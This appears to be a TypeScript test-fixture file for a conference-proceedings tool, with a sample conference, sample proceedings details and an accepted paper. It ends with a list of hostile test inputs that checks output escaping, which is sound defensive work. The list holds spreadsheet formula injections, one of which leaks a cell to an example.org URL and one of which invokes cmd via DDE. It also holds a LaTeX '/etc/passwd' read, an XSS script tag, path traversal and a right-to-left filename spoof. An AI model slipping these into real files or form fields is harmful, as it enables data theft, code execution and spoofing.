import * as v from 'valibot'

import { samplePaper } from '../paper/paper-samples.ts'
import { type Paper, uidSchema } from '../paper/paper.ts'
import type { ConferenceFacts, ProceedingsDetails } from './proceedings.ts'

/** What the tests of proceedings are written about. */
export const sampleConference: ConferenceFacts = {
  name: 'International Conference on Samples',
  shortName: 'ICARTD 2025',
  city: 'Bengaluru',
  year: 2025,
  days: 'End of December 2025',
}

/** Details of proceedings in which nothing is missing. */
export const sampleDetails: ProceedingsDetails = {
  title: 'Proceedings of the International Conference on Samples',
  editors: 'Mei Specimen\nLucía Sample',
  publisher: 'Example Press',
  publisherPlace: 'Bengaluru',
  publishedOn: '2026-02-28',
  isbn: '978-3-16-148410-0',
  doiPrefix: '10.12345',
  siteUrl: 'https://proceedings.example.org/2025',
  depositor: 'Mei Specimen',
  depositorEmail: 'mei@example.org',
}

/** An accepted paper, with what is given in place of its own. */
export function acceptedPaper(change: Partial<Omit<Paper, 'id'>>): Paper {
  const path = 'papers/owner/paper-1/file.pdf'
  return samplePaper('paper-1', {
    number: 12,
    fullname: 'Asha Rao',
    email: 'asha@example.org',
    paperTitle: 'Self-healing concrete',
    abstract: 'It heals.',
    keywords: ['AI'],
    status: 'Accept',
    pdf: { path, name: 'concrete.pdf', bytes: 1234 },
    coAuthors: [
      {
        name: 'Jonas Ekberg',
        affiliation: 'Uni of X',
        orcid: '0000-0002-1825-0097',
        email: 'jonas@x.example',
      },
    ],
    createdAt: new Date('2025-11-01T08:00:00.000Z'),
    updatedAt: new Date('2025-12-20T08:00:00.000Z'),
    updatedBy: v.parse(uidSchema, 'organiser'),
    checks: {
      pdf: { path, ok: true, reason: null, bytes: 1234, sha256: 'abc', pages: 6 },
      supplementaryPdf: null,
    },
    ...change,
  })
}

/** Texts that break what writes them down without care. */
export const nastyTexts = [
  '=HYPERLINK("https://example.org/?x="&A1;"x")',
  '+1-800',
  '@SUM(A1:A9)',
  ' \t=cmd|calc!A1',
  'a;=1+1;b',
  'He said "no", and left',
  "it's; an 'apostrophe'",
  'two\nlines\r\nand a third',
  'results:\n=1+1\n- a "list";"@x"',
  String.raw`100% of $x_1^2$ & {unbalanced \and \input{/etc/passwd} ~ #1`,
  '} , year = {1999',
  '</script><script>alert(1)</script>',
  '<!-- ]]> --> &amp; &lt; &unknown; <![CDATA[',
  'שלום עולם \u202Egnp.exe\u202C مرحبا',
  'emoji 😀👩🏽‍🔬 and half of one \uD83D',
  'bell \u0007 null \u0000 escape \u001B[31m',
  '王小明: 数据; ＝１＋１',
  '../../etc/passwd\\CON.',
  'Smith and Sons, Ltd., and others',
] as const
